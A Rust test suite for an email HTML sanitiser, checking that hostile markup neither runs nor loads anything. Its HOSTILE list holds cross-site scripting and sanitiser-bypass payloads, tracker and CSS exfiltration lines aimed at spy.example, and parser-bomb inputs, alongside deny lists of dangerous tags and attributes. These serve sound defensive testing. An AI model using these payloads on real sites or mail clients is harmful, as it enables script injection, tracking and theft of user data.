//! Mail that wants to run, load, spy or escape, and does not.
#![cfg(feature = "html")]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice
)] // a test may stop at the first surprise

use std::collections::BTreeMap;

use inboxlink_message::{
    html::{Token, Tokens},
    parse,
};
use inboxlink_timeline::html::{iframe_document, safe_html};
use proptest::prelude::*;

fn safe(html: &str) -> String {
    let images = BTreeMap::from([("logo".to_owned(), "https://crm.example/part/2".to_owned())]);
    safe_html(html, &images).html
}

/// No element that runs or loads, no handler, no address that is not a link or
/// a picture of ours.
fn is_harmless(html: &str) -> Result<(), String> {
    for token in Tokens::new(html) {
        let Token::Open(tag) = token else { continue };
        for bad in [
            "script", "style", "iframe", "object", "embed", "form", "input", "link", "meta",
            "base", "svg", "math", "video", "audio", "source", "frame", "applet", "button",
        ] {
            if tag.is(bad) {
                return Err(format!("<{bad}> in {html}"));
            }
        }
        for bad in [
            "onclick",
            "onerror",
            "onload",
            "onmouseover",
            "onfocus",
            "srcset",
            "background",
            "action",
            "formaction",
            "srcdoc",
            "poster",
            "ping",
            "id",
            "class",
            "name",
        ] {
            if tag.attribute(bad).is_some() {
                return Err(format!("{bad} in {html}"));
            }
        }
        let src = tag.attribute("src").unwrap_or_default();
        if !(src.is_empty()
            || src.starts_with("https://crm.example/")
            || src.starts_with("data:image/"))
        {
            return Err(format!("src={src}"));
        }
        let href = tag.attribute("href").unwrap_or_default();
        let kind = href
            .split(':')
            .next()
            .unwrap_or_default()
            .to_ascii_lowercase();
        if !(href.is_empty() || ["http", "https", "mailto", "tel"].contains(&kind.as_str())) {
            return Err(format!("href={href}"));
        }
        let style = tag
            .attribute("style")
            .unwrap_or_default()
            .to_ascii_lowercase();
        for bad in [
            "url",
            "expression",
            "@",
            "position",
            "behavior",
            "-moz-binding",
            "javascript",
        ] {
            if style.contains(bad) {
                return Err(format!("style={style}"));
            }
        }
    }
    Ok(())
}

/// Scripts, styles that load, trackers, and ways around a sanitiser.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://spy.example/1.gif'>",
    "<img src='//spy.example/1.gif'>",
    "<img srcset='http://spy.example/1.gif 1x'>",
    "<body background='http://spy.example/b.png'>x",
    "<table background='http://spy.example/b.png'><tr><td background='http://spy.example/c.png'>x",
    "<div style=\"background:url(http://spy.example/b.png)\">x</div>",
    "<div style=\"background-color:u\\72l(http://spy.example)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%\">x</div>",
    "<style>@import 'http://spy.example/x.css'; input[value^=a]{background:url(http://spy.example/a)}</style>x",
    "<link rel=stylesheet href='http://spy.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=http://spy.example'>",
    "<base href='http://spy.example/'><a href='x'>x</a>",
    "<iframe src='http://spy.example'></iframe><object data='http://spy.example'></object><embed src='http://spy.example'>",
    "<form action='http://spy.example'><input name=a><button formaction='http://spy.example'>x</button></form>",
    "<a href='javascript:alert(1)'>x</a><a href=' java\nscript:alert(1)'>x</a><a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href='vbscript:x'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html,x'>",
    "<svg><script>alert(1)</script><image href='http://spy.example'/><a xlink:href='javascript:x'>y</a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<video poster='http://spy.example/p.png' src='http://spy.example/v'></video><audio src=x><source src=y>",
    "<p id=cookie name=document class=admin>clobbered</p>",
    "<a ping='http://spy.example' href='https://example.com'>x</a>",
    "<img src='http://spy.example/",
    "<<script>alert(1)//<</script>",
    "<img src=cid:unknown><img src='CID:logo'>",
];

#[test]
fn nothing_runs_and_nothing_loads() {
    for html in HOSTILE {
        is_harmless(&safe(html)).unwrap();
    }
    is_harmless(&safe(&HOSTILE.concat())).unwrap();
}

#[test]
fn what_a_reader_needs_stays() {
    assert_eq!(
        safe(
            "<p style='color: red; position: fixed'>Dear <b>Ann</b>,</p><img src=cid:logo width=20>"
        ),
        "<p style=\"color:red\">Dear <b>Ann</b>,</p><img src=\"https://crm.example/part/2\" width=\"20\">"
    );
    assert_eq!(
        safe("<a href='https://example.com/x'>link</a>"),
        "<a href=\"https://example.com/x\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">link</a>"
    );
    let counted = safe_html(
        "<img src=http://a.example/1><img src=http://b.example/2>",
        &BTreeMap::new(),
    );
    assert_eq!((counted.blocked, counted.as_text), (2, false));
}

#[test]
fn a_part_cannot_swallow_the_next() {
    let raw = "From: a@example.com\nContent-Type: multipart/mixed; boundary=b\n\n\
        --b\nContent-Type: text/html\n\n<img src=\"http://spy.example/\n\
        --b\nContent-Type: text/html\n\n<p>secret</p>\n\
        --b\nContent-Type: text/html\n\n\">after\n--b--\n";
    let mail = parse(raw.as_bytes(), None);
    let parts: Vec<_> = mail.html_parts().collect();
    assert_eq!(parts.len(), 3);
    let safe: Vec<_> = parts
        .iter()
        .map(|part| safe_html(part, &BTreeMap::new()))
        .collect();
    let document = iframe_document(&safe, None).html;
    assert!(
        document.contains("<p>secret</p>") && !document.contains("spy.example"),
        "{document}"
    );
}

/// What a parser would take long for is told beforehand, and its text shown.
#[test]
fn bombs_are_shown_as_text() {
    let count = 40_000;
    for (what, html) in [
        ("formatting left open", "<font size=i><p>".repeat(count)),
        (
            "different formatting left open",
            (0..count).map(|n| format!("<font size={n}><p>")).collect(),
        ),
        ("depth", "<div>".repeat(count)),
        ("tables in tables", "<table><tr><td>".repeat(count)),
        ("formatting around tables", "<b><table>".repeat(count)),
        ("lists in lists", "<ul><li>".repeat(count)),
        ("anchors", "<a href=x><div>".repeat(count)),
        ("unknown elements", "<x-y>".repeat(count)),
        ("foreign elements", "<svg><g>".repeat(count)),
        ("elements", "<br>".repeat(count * 3)),
        ("attributes", format!("<p {}>x", "a=b ".repeat(count))),
        ("bytes", "x".repeat(2 * 1024 * 1024)),
    ] {
        let shown = safe_html(&html, &BTreeMap::new());
        assert!(shown.as_text, "{what}");
        assert!(shown.html.len() <= 2 * html.len() + 20, "{what}");
    }
}

/// What passes the scan comes out no larger than a small multiple of it.
#[test]
fn what_is_parsed_stays_small() {
    for piece in [
        "<p>", "<li>", "</p>", "</b>", "<tr>", "&", "<", "<!--", "<b>x</b>", "<td>x", "</a><p>",
    ] {
        let html = piece.repeat(30_000 / piece.len());
        let shown = safe_html(&html, &BTreeMap::new());
        assert!(
            shown.html.len() < 8 * html.len() + 100,
            "{piece}: {}",
            shown.html.len()
        );
    }
}

proptest! {
    #[test]
    fn any_markup_is_harmless(
        pieces in prop::collection::vec(prop::sample::select(vec![
            "<", ">", "\"", "'", "=", " ", "/", "a", "&lt;", "&#60;", "<!--", "-->", "<![CDATA[", "]]>",
            "<img src=", "onerror=", "http://spy.example", "javascript:", "<script>", "</script>", "<style>",
            "</style>", "<svg>", "<math>", "<table>", "<td>", "<p>", "</p>", "<a href=", "style=", "url(x)",
            "<noscript>", "<title>", "</title>", "<textarea>", "<template>", "<b>", "\u{0}", "é", "x",
        ]), 0..30),
    ) {
        let html: String = pieces.concat();
        let once = safe(&html);
        prop_assert!(is_harmless(&once).is_ok(), "{:?} from {html}", is_harmless(&once));
    }
}
